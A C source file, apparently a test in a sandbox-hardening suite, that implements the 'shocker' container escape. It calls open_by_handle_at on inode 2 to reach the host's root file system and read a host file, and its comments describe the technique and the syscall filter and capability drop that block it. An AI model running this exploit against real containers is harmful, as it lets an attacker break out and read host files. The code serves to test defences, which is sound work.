/* SPDX-License-Identifier: MIT
 *
 * Open the host's root directory by its number: the "shocker" exploit.
 *
 * open_by_handle_at(2) was made for file servers. It takes the number of a
 * file in a file system, and any file that is open there, to say which file
 * system; no path is walked, so no root directory and no mount matters. A
 * single file bound into the sandbox is enough: here it is this program. The
 * root of ext2, ext3 and ext4 is number 2, and generation 0 fits any.
 * Argument: a file of the host to read below that root. For other file
 * systems it opens itself by number, which takes the same permission.
 * Step 4 stops it, by the filter, and CAP_DAC_READ_SEARCH is dropped.
 * http://stealth.openwall.net/xSports/shocker.c; CVE-2014-3519 (OpenVZ).
 */
#include <fcntl.h>
#include <stdint.h>
#include <unistd.h>

#include "attack.h"

enum { INODE_AND_GENERATION = 1 }; /* FILEID_INO32_GEN, <linux/exportfs.h> */

int main(int argc, char **argv)
{
    union {
        struct file_handle head;
        char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } handle = {.head.handle_bytes = MAX_HANDLE_SZ};
    static const uint32_t root[] = {2, 0};
    char text[80] = "";
    int mount_id, self = open(argv[0], O_RDONLY);

    if (argc != 2)
        does_not_apply("usage: file_handle FILE-OF-THE-HOST");
    if (self < 0)
        stopped(argv[0]);
    if (name_to_handle_at(self, "", &handle.head, &mount_id, AT_EMPTY_PATH) <
        0) {
        if (errno == EOPNOTSUPP)
            does_not_apply("this file system has no file handles");
        /* A handle is a few bytes: whoever may not ask for one makes it. */
        handle.head.handle_type = INODE_AND_GENERATION;
        handle.head.handle_bytes = sizeof(root);
    }
    if (handle.head.handle_type == INODE_AND_GENERATION)
        memcpy(handle.head.f_handle, root, sizeof(root));
    int fd = open_by_handle_at(self, &handle.head, O_RDONLY);
    if (fd < 0 && errno != ESTALE)
        stopped_or_missing("open_by_handle_at");
    if (fd < 0 || handle.head.handle_type != INODE_AND_GENERATION)
        learned("may open any file of the file system by its number");
    int file = openat(fd, argv[1] + 1, O_RDONLY);
    if (file < 0)
        learned("opened number 2, the root of the host's file system");
    if (read(file, text, sizeof(text) - 1) < 0)
        stopped("read");
    text[strcspn(text, "\n")] = '\0';
    learned("from the host's root, %s says: %s", argv[1], text);
}
